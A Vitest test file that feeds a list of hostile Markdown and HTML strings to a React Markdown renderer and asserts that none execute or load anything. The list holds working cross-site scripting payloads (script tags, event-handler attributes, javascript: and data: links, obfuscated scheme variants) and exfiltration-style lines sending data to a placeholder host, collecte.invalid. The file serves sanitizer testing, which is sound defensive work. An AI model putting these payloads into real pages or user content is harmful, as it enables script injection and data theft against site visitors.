// @vitest-environment jsdom
import { cleanup, render } from '@testing-library/react'
import { createElement } from 'react'
import { afterEach, expect, it } from 'vitest'
import { MarkdownContent } from './markdown-content.tsx'

afterEach(cleanup)

const hostile = [
  '<script>window.taken = 1</script>',
  '<img src=x onerror="window.taken = 1">',
  '<svg/onload="window.taken = 1"><animate onbegin=alert(1)>',
  '<iframe srcdoc="<script>parent.taken = 1</script>"></iframe>',
  '<a href="javascript:window.taken=1">ici</a>',
  '<form action="https://collecte.invalid"><button>Envoyer</button></form>',
  '<style>* { background: url(https://collecte.invalid/) }</style>',
  '<base href="https://collecte.invalid/"><meta http-equiv="refresh" content="0;url=https://collecte.invalid">',
  '![suivi](https://collecte.invalid/i.png?d=secret)',
  '![ref][i]\n\n[i]: https://collecte.invalid/i.png',
  '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\nscript:alert(1)) [d](&#106;avascript:alert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD4=) [b](vbscript:x) [c](file:///etc/passwd) [d](blob:https://x)',
  '<javascript:alert(1)> <data:text/html,x>',
  '[a]: javascript:alert(1)\n\n[ici][a]',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> [x](javascript:alert(1)) |',
  '- [x] <input autofocus onfocus=alert(1)>\n- [^1]\n\n[^1]: <object data="javascript:alert(1)">',
  '[[1]](javascript:alert(1)) [1](javascript:alert(1))',
]

it.each(hostile)('%j stays inert', (text) => {
  const { container } = render(createElement(MarkdownContent, { text, sources: [] }))
  const loads = 'script, img, iframe, object, embed, form, style, link, base, meta, video, audio, svg animate'
  expect(container.querySelector(loads)).toBeNull()
  for (const element of container.querySelectorAll('*'))
    for (const { name, value } of element.attributes) {
      expect(name.startsWith('on'), `${name}=${value}`).toBe(false)
      if (['href', 'src', 'action', 'formaction', 'srcdoc'].includes(name))
        expect(value).toMatch(/^(?:https?:|mailto:|#)/)
    }
  expect('taken' in window).toBe(false)
})
